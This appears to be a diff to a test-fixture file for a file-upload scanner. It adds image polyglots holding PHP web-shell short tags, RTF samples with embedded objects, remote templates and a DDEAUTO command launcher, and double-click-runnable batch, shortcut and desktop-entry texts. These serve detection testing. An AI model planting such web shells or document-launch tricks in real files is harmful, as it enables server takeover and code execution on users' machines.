@@ -106,6 +106,9 @@ export const polyglots: Record<string, Buffer> = {
   ]),
   'JPEG and PHP': Buffer.concat([jpeg(), Buffer.from('<?php system($_GET["c"]); ?>')]),
   'JPEG with PHP in its comment': jpeg(segment(0xfe, '<?PHP system("id"); ?>')),
+  'GIF with a short tag of PHP behind it': Buffer.concat([gif(), Buffer.from('<?=`$_GET[0]`?>')]),
+  'GIF with a short tag that nothing closes': Buffer.concat([gif(), Buffer.from('\n<?=`id`')]),
+  'PNG with a short tag of PHP in its text': png(['tEXt', Buffer.from('Comment\0<?=`$_GET[0]`?>')]),
   'JPEG and HTML': Buffer.concat([jpeg(), Buffer.from('\n<html><body onload=alert(1)>')]),
   'JPEG and ZIP': Buffer.concat([jpeg(), named('a.txt')]),
   'JPEG and program': Buffer.concat([jpeg(), exe]),
@@ -170,4 +173,24 @@ export const pdfsWithPrograms: Record<string, Buffer> = {
   'by its name': pdf('4 0 obj\n<< /Type /Filespec /F (invoice.exe) >>\nendobj\n'),
   'by its name in UTF-16': pdf('4 0 obj\n<< /UF <FEFF0061002E006500780065> >>\nendobj\n'),
   'by its bytes': pdf(pdfStream('/Type /EmbeddedFile', exe)),
+}
+
+export const rtfs: Record<string, string> = {
+  'an embedded object': '{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000}}}',
+  'an object that updates itself': '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}}}',
+  'an object without the last letter of the mark': '{\\rt{\\object{\\*\\objdata 0105}}}',
+  'a template from elsewhere': '{\\rtf1{\\*\\template https://a.example/x.dotm}}',
+  'a template from another computer': '{\\rtf1{\\*\\template \\\\\\\\a.example\\\\x.dotm}}',
+  'a field that starts a program': '{\\rtf1{\\field{\\*\\fldinst{\\b DDEAUTO c:\\\\cmd.exe "/k calc"}}}}',
+  'an object far behind': `{\\rtf1 ${'laporan '.repeat(20_000)}{\\object{\\*\\objdata 0105}}}`,
+}
+
+/** Texts that a double click runs, under whatever name they come. */
+export const runnableTexts: Record<string, string> = {
+  'batch text that begins with a remark': 'rem pasang\r\n@echo off\r\nstart calc\r\n',
+  'batch text that begins with a label': ':: pasang\n@ECHO OFF & start calc\n',
+  'an internet shortcut': '[InternetShortcut]\r\nURL=file://a.example/x.exe\r\n',
+  'a desktop entry': '#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=sh -c id\n',
+  'a desktop entry without its first line': '# pasang\n[Desktop Entry]\nExec=sh -c id\n',
+  'a short tag of PHP': '<?=`$_GET[0]`?>',
 }
